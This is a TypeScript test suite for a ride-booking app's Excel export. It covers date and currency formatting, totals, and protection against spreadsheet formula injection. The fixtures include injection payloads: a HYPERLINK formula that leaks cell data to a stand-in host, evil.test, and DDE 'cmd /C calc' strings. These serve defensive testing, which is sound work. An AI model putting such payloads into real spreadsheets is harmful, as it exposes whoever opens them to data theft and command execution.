import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildUser } from '../../test/test-app.ts';
import { apiAs, buildOwnRide, useRideApp, type RidePeople, type TestApp } from '../rides/test-support.ts';
import { CZK_FORMAT, safeText } from './ride-export.xlsx.ts';
import { exportAs } from './test-helpers.ts';

let t: TestApp;
let p: RidePeople;
const YEAR = 'dateFrom=2039-01-01_00:00:00&dateTo=2039-12-31_23:59:59';
const INJECTIONS = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', '+1', '-2', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=2+2'];

useRideApp((app, people) => {
  t = app;
  p = people;
});

describe('the export file', () => {
  it('writes dates as real Excel dates showing the Prague wall time, winter and summer', async () => {
    await buildOwnRide(t, p, { date: new Date('2039-01-10T08:00:00Z') });
    await buildOwnRide(t, p, { date: new Date('2039-07-10T08:00:00Z') });
    const file = await exportAs(p.admin.api, `for=admin&${YEAR}&sortBy=date`);
    const dates = file.data.map((row) => row.getCell(file.column('Date and time')));
    expect(dates.map((c) => c.type)).toEqual([ExcelJS.ValueType.Date, ExcelJS.ValueType.Date]);
    // exceljs reads the serial back as a UTC Date: its UTC fields are what the cell shows.
    expect(dates.map((c) => (c.value as Date).toISOString())).toEqual(['2039-01-10T09:00:00.000Z', '2039-07-10T10:00:00.000Z']);
    expect(dates[0]?.numFmt).toBe('yyyy-mm-dd hh:mm');
    const cs = await exportAs(apiAs(t, p.admin.token, { 'accept-language': 'cs' }), `for=admin&${YEAR}&sortBy=date`);
    expect(cs.data[0]?.getCell(cs.column('Datum a čas')).numFmt).toBe('d.m.yyyy h:mm');
  });

  it('writes money as numbers in Kč with a CZK format and sums it in a totals row', async () => {
    const range = 'dateFrom=2039-03-01_00:00:00&dateTo=2039-03-31_23:59:59&sortBy=date';
    await buildOwnRide(t, p, { date: new Date('2039-03-01T08:00:00Z'), clientPrice: 1234_56, driverPrice: 1000_00 });
    await buildOwnRide(t, p, { date: new Date('2039-03-02T08:00:00Z'), clientPrice: 765_44, driverPrice: null });
    await buildOwnRide(t, p, { date: new Date('2039-03-03T08:00:00Z'), clientPrice: 10, driverPrice: 20 });
    const file = await exportAs(p.admin.api, `for=admin&${range}`);
    const client = file.column('Price for the client');
    const driver = file.column('Price for the driver');
    expect(file.data.map((r) => r.getCell(client).value)).toEqual([1234.56, 765.44, 0.1]);
    expect(file.data.map((r) => r.getCell(driver).value)).toEqual([1000, null, 0.2]);
    expect(file.data[0]?.getCell(client).numFmt).toBe(CZK_FORMAT);
    expect(file.totals.getCell(1).value).toBe('Total: 3 rides');
    expect(file.totals.getCell(client).value).toMatchObject({ result: 2000.1 });
    expect(file.totals.getCell(client).numFmt).toBe(CZK_FORMAT);
    expect(file.totals.getCell(driver).value).toMatchObject({ result: 1000.2 });
    const cs = await exportAs(apiAs(t, p.customer.token, { 'accept-language': 'cs' }), `for=client&${range}`);
    expect(cs.totals.getCell(1).value).toBe('Celkem: 3 jízdy');
    expect(cs.totals.getCell(cs.column('Cena pro klienta')).value).toMatchObject({ result: 2000.1 });
  });

  it('freezes the header, filters the data and sizes the columns', async () => {
    const file = await exportAs(p.admin.api, `for=admin&${YEAR}`);
    expect(file.sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(file.sheet.autoFilter).toBe(`A1:Y${file.data.length + 1}`);
    expect(file.sheet.getColumn(file.column('Pick-up')).width).toBe(40);
    expect(file.sheet.getRow(1).font).toMatchObject({ bold: true });
  });

  it('writes text that begins like a formula as plain text, never a formula (formula injection)', async () => {
    const passenger = await buildUser(t.database, {
      role: 'PASSENGER',
      name: '=cmd|" /C calc"!A0',
      phone: '+420 601 000 009',
      clientId: p.customer.id,
    });
    const rides = [];
    for (const [i, note] of INJECTIONS.entries()) {
      rides.push(
        await buildOwnRide(t, p, {
          date: new Date(Date.UTC(2039, 9, 1 + i, 8)),
          passengerId: passenger.id,
          clientNote: note,
          flightNumber: '@A1',
          stops: [
            { address: note, placeId: null, lat: null, lng: null, note: null },
            { address: '-Praha', placeId: null, lat: null, lng: null, note: null },
          ],
        }),
      );
    }
    const file = await exportAs(p.customer.api, `for=client&dateFrom=2039-10-01_00:00:00&dateTo=2039-10-31_23:59:59&sortBy=date`);
    expect(file.ids).toEqual(rides.map((r) => r.id));
    const textCells = file.data.flatMap((row) =>
      ["Client's note", 'Pick-up', 'Destination', 'Passenger', "Passenger's phone", 'Flight number'].map((h) =>
        row.getCell(file.column(h)),
      ),
    );
    for (const cell of textCells) {
      expect(cell.type, cell.address).toBe(ExcelJS.ValueType.String);
      expect(typeof cell.value).toBe('string');
      expect(cell.formula).toBeUndefined();
    }
    const notes = file.data.map((row) => row.getCell(file.column("Client's note")).value);
    // XML reads a raw carriage return back as a line feed; the quote before it stays.
    expect(notes).toEqual(INJECTIONS.map((note) => safeText(note).replace('\r', '\n')));
    expect(notes[0]).toBe(`'${INJECTIONS[0]}`);
    expect(notes.slice(1, 3)).toEqual(['+1', '-2']);
    expect(notes[3]).toBe(`'${INJECTIONS[3]}`);
    const first = file.data[0]!;
    expect(first.getCell(file.column('Passenger')).value).toBe('\'=cmd|" /C calc"!A0');
    expect(first.getCell(file.column("Passenger's phone")).value).toBe('+420 601 000 009');
    expect(first.getCell(file.column('Flight number')).value).toBe("'@A1");
    expect(first.getCell(file.column('Destination')).value).toBe("'-Praha");
  });
});

describe('safeText', () => {
  it.each(['=1+1', '@SUM(A1)', '+cmd', "-2+3+cmd|' /C calc'!A0", '\tx'])('quotes %j, which a spreadsheet could run', (text) => {
    expect(safeText(text)).toBe(`'${text}`);
  });

  it.each(['+420 601 000 003', '-15', 'Hotel = Paříž'])('leaves %j alone (a phone, a signed number, other text)', (text) => {
    expect(safeText(text)).toBe(text);
  });
});
